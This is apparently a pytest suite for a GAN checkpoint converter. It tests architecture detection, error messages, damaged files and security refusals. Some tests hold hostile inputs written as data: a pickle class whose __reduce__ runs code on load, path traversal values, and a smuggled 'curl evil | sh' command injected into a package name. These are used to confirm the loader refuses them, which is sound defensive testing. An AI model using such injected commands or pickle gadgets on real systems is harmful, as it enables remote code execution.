import pytest
import torch
from torch import nn

from ganaug.checkpoints import convert_checkpoint, generator_from_distribution
from ganaug.errors import GeneratorError
from ganaug.generators import DCGAN


def state(network, prefix="main."):
    return {prefix + name: tensor for name, tensor in network.state_dict().items()}


class Malice:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (str(self.path), "w"))


def test_a_malicious_pickle_is_refused_and_not_run(tmp_path):
    torch.save({"netG_state_dict": Malice(tmp_path / "was_run")}, tmp_path / "evil.pt")
    with pytest.raises(GeneratorError, match=r"evil.pt is refused.*Save a plain state dict instead"):
        convert_checkpoint(tmp_path / "evil.pt")
    assert not (tmp_path / "was_run").exists()


def test_damaged_and_foreign_files_are_named(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    with pytest.raises(GeneratorError, match="there is no file"):
        convert_checkpoint(path)
    torch.save(state(tutorial), path)
    whole = path.read_bytes()
    for content in (whole[: len(whole) // 2], b"", b"hello"):
        path.write_bytes(content)
        with pytest.raises(GeneratorError, match=r"x\.pt"):
            convert_checkpoint(path)
    torch.save({"encoder.layer.weight": torch.ones(4, 2)}, path)
    with pytest.raises(GeneratorError, match=r"does not know: encoder.layer.weight \(4, 2\)\. Known: DCGAN"):
        convert_checkpoint(path)
    torch.save([1, 2], path)
    with pytest.raises(GeneratorError, match="does not know: list"):
        convert_checkpoint(path)
    with pytest.raises(GeneratorError, match=r"is a folder without generator\.pt"):
        convert_checkpoint(tmp_path)


def stylegan2_names():
    """A few of the tensors of rosinality's StyleGAN2."""
    shapes = {"input.input": (1, 4, 4, 4), "style.1.weight": (4, 4), "style.1.bias": (4,)}
    shapes |= {
        "conv1.conv.modulation.weight": (4, 4),
        "conv1.conv.weight": (1, 4, 4, 3, 3),
        "conv1.activate.bias": (4,),
    }
    return {name: torch.randn(shape) for name, shape in shapes.items()}


def tutorial_discriminator():
    layers = [nn.Conv2d(3, 4, 4, 2, 1, bias=False), nn.LeakyReLU(0.2), nn.Conv2d(4, 8, 4, 2, 1, bias=False)]
    return state(nn.Sequential(*layers, nn.BatchNorm2d(8), nn.LeakyReLU(0.2), nn.Conv2d(8, 1, 4, 1, 0, bias=False)))


FOREIGN = {
    "discriminator": (tutorial_discriminator, "Nearest: DCGAN .*, but it would also have main.1.running_mean"),
    "other prefix": (
        lambda: state(DCGAN(latent_dim=5, width=4, image_size=16).main, "layers."),
        r"Nearest: DCGAN .*, but these begin with 'layers\.' where it has 'main\.'\.",
    ),
    "one prefix more": (
        lambda: {f"own.{name}": tensor for name, tensor in stylegan2_names().items()},
        r"Nearest: StyleGAN2 \(rosinality.*, but these begin with 'own\.'\.",
    ),
    "tensor missing": (
        lambda: {name: tensor for name, tensor in stylegan2_names().items() if name != "style.1.weight"},
        "Nearest: StyleGAN2 .*, but it would also have style.1.weight",
    ),
    "tensor too many": (
        lambda: {"0.weight": torch.ones(4, 2), "2.weight": torch.ones(16, 4), "label_emb.weight": torch.ones(2, 2)},
        "Nearest: MLP .*, but these do not belong: label_emb.weight",
    ),
    "directions": (
        lambda: {"linear.weight": torch.eye(3), "linear.bias": torch.zeros(3)},
        "holds directions, not a generator. .* --generator FOLDER",
    ),
}


@pytest.mark.parametrize("case", FOREIGN)
def test_an_unknown_layout_is_told_from_the_nearest_known_one(tmp_path, case):
    tensors, message = FOREIGN[case]
    torch.save(tensors(), tmp_path / "x.pt")
    with pytest.raises(GeneratorError, match=message):
        convert_checkpoint(tmp_path / "x.pt")


def test_a_layout_that_is_told_is_required(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    torch.save(state(tutorial), path)
    assert isinstance(convert_checkpoint(path, arch="dcgan"), DCGAN)
    for arch in ("sngan", "progan", "biggan", "biggan-deep", "stylegan2", "mlp"):
        with pytest.raises(GeneratorError, match=r"x\.pt.*(missing|found main\.0\.weight|linear layers)"):
            convert_checkpoint(path, arch=arch)
    with pytest.raises(GeneratorError, match=r"arch should be auto or one of dcgan, sngan, .*; got 'gan9000'"):
        convert_checkpoint(path, arch="gan9000")
    torch.save(state(tutorial, "layers."), path)
    with pytest.raises(GeneratorError, match=r"DCGAN .*missing main\.0\.weight.*and 11 more"):
        convert_checkpoint(path, arch="dcgan")


def test_options_are_those_of_the_architecture(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    torch.save(state(tutorial), path)
    with pytest.raises(GeneratorError, match="dcgan has no option truncation for conversion; it has none"):
        convert_checkpoint(path, truncation=0.5)


def test_a_generator_comes_out_of_an_installed_distribution(distribution, tutorial):
    latents = torch.randn(2, 6)
    generator = generator_from_distribution(**distribution)
    torch.testing.assert_close(generator(latents), tutorial(latents[:, :, None, None]), rtol=1e-6, atol=1e-6)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"distribution": "no-such-faces"}, "distribution no-such-faces, which is missing"),
        ({"path": "toy_faces/other.tar"}, "toy-faces 2.0 has no toy_faces/other.tar"),
        ({"file_sha256": "0" * 64}, "expected 0000000"),
    ],
)
def test_what_is_missing_is_named_with_the_way_to_get_it(distribution, change, message):
    wanted = {**distribution, **change}
    with pytest.raises(GeneratorError) as caught:
        generator_from_distribution(**wanted)
    assert message in str(caught.value)
    assert f'pip install --no-deps "{wanted["distribution"]}==2.0"' in str(caught.value)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"path": "../secret.tar"}, "should lie inside it, got '../secret.tar'"),
        ({"path": "/secret.tar"}, "should lie inside it, got '/secret.tar'"),
        ({"distribution": 'x"; curl evil | sh; "'}, "is not the name and version of a Python distribution"),
        ({"version": "2.0; true"}, "is not the name and version of a Python distribution"),
    ],
)
def test_a_source_that_reaches_out_is_refused_and_no_command_is_made_of_it(distribution, change, message):
    with pytest.raises(GeneratorError) as caught:
        generator_from_distribution(**{**distribution, **change})
    assert message in str(caught.value) and "pip install" not in str(caught.value)


def test_averaged_weights_are_taken_before_those_that_were_averaged(tutorial, tmp_path):
    averaged = state(tutorial)
    raw = {name: tensor + 1 if tensor.is_floating_point() else tensor for name, tensor in averaged.items()}
    torch.save({"generator": raw, "g_ema": averaged}, tmp_path / "x.pt")
    z = torch.randn(2, 6)
    torch.testing.assert_close(convert_checkpoint(tmp_path / "x.pt")(z), tutorial(z[:, :, None, None]))


@pytest.mark.parametrize("how", ["compiled", "beside a discriminator", "half", "called pkl"])
def test_checkpoints_as_trainings_leave_them_convert(tutorial, tmp_path, how):
    tensors, path = state(tutorial), tmp_path / "x.pt"
    if how == "compiled":
        tensors = {f"module._orig_mod.{name}": tensor for name, tensor in tensors.items()}
    elif how == "beside a discriminator":
        tensors = {f"generator.{name}": tensor for name, tensor in tensors.items()} | {
            "discriminator.main.0.weight": torch.zeros(4, 3, 4, 4)
        }
    elif how == "half":
        tensors = {name: tensor.half() if tensor.is_floating_point() else tensor for name, tensor in tensors.items()}
    else:
        path = tmp_path / "x.pkl"
    torch.save(tensors, path)
    z = torch.randn(2, 6)
    tolerance = 2e-2 if how == "half" else 1e-5
    images = tutorial(z[:, :, None, None])
    torch.testing.assert_close(convert_checkpoint(path)(z), images, atol=tolerance, rtol=tolerance)


def test_a_tensor_that_claims_more_than_is_stored_is_refused(tutorial, tmp_path):
    tensors = state(tutorial)
    tensors["main.0.weight"] = torch.zeros(1).expand(6, 10**6, 4, 4)
    torch.save(tensors, tmp_path / "x.pt")
    with pytest.raises(GeneratorError, match=r"shape \(6, 1000000, 4, 4\) has more elements than are stored"):
        convert_checkpoint(tmp_path / "x.pt")


def test_a_flipped_bit_is_seen_where_there_are_checksums(tutorial, tmp_path):
    path, z = tmp_path / "x.pt", torch.randn(2, 6)
    torch.save(state(tutorial), path)
    content = bytearray(path.read_bytes())
    content[content.find(state(tutorial)["main.3.weight"].numpy().tobytes()) + 2] ^= 64
    path.write_bytes(content)
    with pytest.raises(GeneratorError, match=r"x\.pt is refused: it is damaged.*its record x/data/\d+ is damaged"):
        convert_checkpoint(path)
    torch.serialization.set_crc32_options(False)
    try:
        torch.save(state(tutorial), path)
    finally:
        torch.serialization.set_crc32_options(True)
    torch.testing.assert_close(convert_checkpoint(path)(z), tutorial(z[:, :, None, None]))
